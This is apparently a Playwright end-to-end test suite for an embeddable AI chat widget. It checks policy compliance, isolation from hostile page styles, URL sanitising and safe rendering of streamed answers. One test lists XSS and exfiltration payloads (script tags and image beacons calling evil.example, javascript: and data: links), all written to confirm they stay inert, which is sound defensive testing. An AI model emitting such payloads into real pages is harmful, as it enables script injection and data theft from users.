"""The widget lives with strict policies and rough pages, and leaves no mark on either."""

import json
import re

import pytest
from playwright.sync_api import Dialog, Page, Request, expect

from tests.doubles.scripted_widget_api import Emit, Hold, citations, done, status, tokens
from tests.e2e.chat import Chat
from tests.e2e.conftest import Site

QUESTION = "How long do returns take?"
ANSWER = [
    status("searching"),
    *tokens("You have **30 days** [1]."),
    citations({"id": 1, "url": "https://shop.example/", "title": "Help"}),
    done(),
]

HOSTILE_CSS = """<style>
  * { color: red !important; font-size: 40px !important; display: none !important; }
  html, head ~ body, main, h1 { display: block !important; }
  docent-widget, docent-widget * { all: unset !important; opacity: 0 !important; visibility: hidden !important;
    position: static !important; transform: scale(0) !important; pointer-events: none !important; }
  button { background: lime !important; }
</style>"""


def converse(page: Page, site: Site) -> Chat:
    site.api.script[QUESTION] = ANSWER
    chat = Chat.opened(page, site)
    chat.ask(QUESTION)
    chat.finish()
    expect(chat.answer).to_have_text("You have 30 days. 1")
    return chat


def test_a_strict_content_policy_sees_no_violation(page: Page, site: Site) -> None:
    site.api.page_headers["Content-Security-Policy"] = (
        f"default-src 'none'; script-src {site.api_origin}; connect-src {site.api_origin}; "
        "require-trusted-types-for 'script'"
    )
    page.add_init_script(
        "addEventListener('securitypolicyviolation', e => (window.violations ??= []).push(e.violatedDirective))"
    )
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    converse(page, site)
    page.get_by_role("button", name="Not helpful").click()
    page.get_by_role("button", name="New conversation").click()
    assert page.evaluate("window.violations ?? []") == []
    # The page's own missing favicon is none of ours.
    assert [text for text in complaints if "favicon" not in text and "404" not in text] == []


def test_hostile_styles_of_the_page_change_nothing(page: Page, site: Site) -> None:
    site.write(head=HOSTILE_CSS)
    chat = converse(page, site)
    style = chat.answer.evaluate(
        "e => { const s = getComputedStyle(e); return [s.fontSize, s.color, s.opacity, s.visibility] }"
    )
    assert style == ["15px", "rgb(17, 17, 34)", "1", "visible"]
    box = chat.panel.bounding_box()
    assert box is not None
    assert box["width"] == 400


def test_the_host_page_keeps_its_layout_and_its_names(page: Page, site: Site) -> None:
    measure = """() => {
      const { scrollWidth, scrollHeight } = document.documentElement;
      return [scrollWidth, scrollHeight, document.body.innerHTML.length];
    }"""
    site.write(body="<p>text</p>" * 60)
    page.goto(site.origin)
    before = page.evaluate("Object.keys(window).length")
    chat = Chat(page)
    chat.launcher.wait_for()
    size = page.evaluate(measure)
    chat.launcher.click()
    expect(chat.log).to_contain_text("Hello!")
    assert page.evaluate(measure) == size
    assert page.evaluate("Object.keys(window).length") - before <= 1
    assert page.evaluate("document.querySelectorAll('[style]').length") == 0
    assert page.locator("docent-widget [style]").count() == 0


@pytest.mark.parametrize(
    "redraw",
    [
        pytest.param("document.body.innerHTML = '<h1>Next page</h1>'", id="body emptied"),
        pytest.param("document.body.replaceWith(document.createElement('body'))", id="body replaced"),
        pytest.param("document.querySelector('docent-widget').remove()", id="widget removed"),
        pytest.param("history.pushState({}, '', '/next')", id="address changed"),
    ],
)
def test_a_page_that_redraws_itself_keeps_the_conversation(page: Page, site: Site, redraw: str) -> None:
    chat = converse(page, site)
    page.evaluate(redraw)
    expect(chat.questions).to_have_count(1)
    chat.ask(QUESTION)
    expect(chat.questions).to_have_count(2)
    chat.finish()


def test_the_address_of_the_moment_is_sent(page: Page, site: Site) -> None:
    chat = converse(page, site)
    page.evaluate("history.pushState({}, '', '/shoes?id=4&session_token=secret#red')")
    chat.ask(QUESTION)
    chat.finish()
    expect(chat.questions).to_have_count(2)
    assert site.api.calls_to("/messages/stream")[1].body["page_url"] == site.origin + "/shoes?id=4"


def test_two_agents_share_a_page(page: Page, site: Site) -> None:
    site.write(body=site.tag("a2"))
    page.goto(site.origin)
    launchers = page.locator("docent-widget .launcher")
    expect(launchers).to_have_count(2)
    boxes = [launcher.bounding_box() for launcher in launchers.all()]
    assert boxes[0] is not None
    assert boxes[1] is not None
    assert boxes[1]["y"] + boxes[1]["height"] < boxes[0]["y"]
    launchers.nth(1).click()
    expect(page.get_by_role("log")).to_contain_text("Hello!")
    assert len(site.api.calls) == 1


def test_the_same_tag_twice_is_one_widget(page: Page, site: Site) -> None:
    site.write(body=site.tag())
    Chat.visit(page, site)
    page.wait_for_timeout(300)
    expect(page.locator("docent-widget")).to_have_count(1)


def test_a_browser_that_refuses_storage_can_still_talk(page: Page, site: Site) -> None:
    page.add_init_script(
        "Object.defineProperty(window, 'localStorage', { get() { throw new DOMException('', 'SecurityError') } })"
    )
    converse(page, site)


def test_the_page_s_shortcuts_stay_quiet_while_someone_types(page: Page, site: Site) -> None:
    page.add_init_script("addEventListener('keydown', e => (window.heard ??= []).push(e.key))")
    chat = Chat.opened(page, site)
    page.evaluate("window.heard = []")
    chat.input.press_sequentially("s/?")
    assert page.evaluate("window.heard") == []


def test_nothing_is_left_in_print(page: Page, site: Site) -> None:
    chat = Chat.opened(page, site)
    page.emulate_media(media="print")
    expect(chat.panel).to_be_hidden()


OBEYED = (
    "<script>fetch('https://evil.example/')</script>",
    "<img src=x onerror=\"alert('x')\">",
    "<img src='https://evil.example/b.gif'>",
    "![logo](https://evil.example/p.png?d=secret)",
    "![\" onerror=\"alert('x')](x)",
    "[here](javascript:alert('x'))",
    "[here](JaVa\tScript:alert('x'))",
    "[here](data:text/html;base64,PHNjcmlwdD4=)",
    "<svg><script>alert('x')</script></svg>",
    "<iframe srcdoc=\"<script>alert('x')</script>\"></iframe>",
    "[good.example](https://good.example@evil.example/)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
)


@pytest.fixture
def trapped(page: Page) -> list[str]:
    """Every dialog, and every request that left for a stranger."""
    caught: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        caught.append(dialog.message)
        dialog.dismiss()

    def watch(request: Request) -> None:
        if "evil.example" in request.url:
            caught.append(request.url)

    page.on("dialog", dismiss)
    page.on("request", watch)
    return caught


def test_what_a_captured_model_writes_stays_text_at_every_prefix(page: Page, site: Site, trapped: list[str]) -> None:
    for at, text in enumerate(OBEYED):
        site.api.script[f"Question {at}?"] = [
            *(Emit({"event": "token", "token": char}, 0.004) for char in text),
            done(),
        ]
    chat = Chat.opened(page, site)
    page.evaluate(
        """() => {
          const root = document.querySelector('docent-widget').shadowRoot;
          const active = 'script,img,iframe,object,embed,link,.text svg,.text form,[onerror],[srcdoc]';
          const isBad = (a) => !/^https?:$/.test(a.protocol) || a.username;
          const look = () => {
            const links = [...root.querySelectorAll('.text a')].filter(isBad);
            for (const bad of [...root.querySelectorAll(active), ...links]) (window.seen ??= []).push(bad.outerHTML);
          };
          new MutationObserver(look).observe(root, { childList: true, subtree: true, attributes: true });
        }"""
    )
    for at, text in enumerate(OBEYED):
        chat.ask(f"Question {at}?")
        expect(chat.answers).to_have_count(at + 1)
        chat.finish()
        assert page.evaluate("window.seen ?? []") == [], text
        assert trapped == [], text


def test_a_link_away_from_the_website_shows_where_it_leads(page: Page, site: Site) -> None:
    links = f"Use [our form](https://forms.example/f), [help]({site.origin}/help) or https://other.example/x."
    site.api.script[QUESTION] = [*tokens(links), done()]
    chat = Chat.opened(page, site)
    chat.ask(QUESTION)
    chat.finish()
    expect(chat.answer).to_have_text("Use our form forms.example, help or https://other.example/x.")


def test_the_built_file_has_no_way_to_parse_markup_or_run_text(site: Site) -> None:
    built = (site.api.files / "widget.js").read_text()
    assert not re.search(
        r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|\beval\(|new Function", built
    )
    assert json.loads((site.api.files / "widget.js.map").read_text())["version"] == 3


def test_leaving_and_coming_back_goes_on_with_the_answer(page: Page, site: Site) -> None:
    site.api.script[QUESTION] = [*tokens("You have "), Hold(), *tokens("30 days."), done()]
    chat = Chat.opened(page, site)
    chat.ask(QUESTION)
    expect(chat.answer).to_contain_text("You have")
    page.evaluate("dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true }))")
    expect(chat.answers.last).to_contain_text("Reconnecting")
    page.evaluate("dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true }))")
    site.api.release()
    chat.finish()
    expect(chat.answer).to_have_text("You have 30 days.")
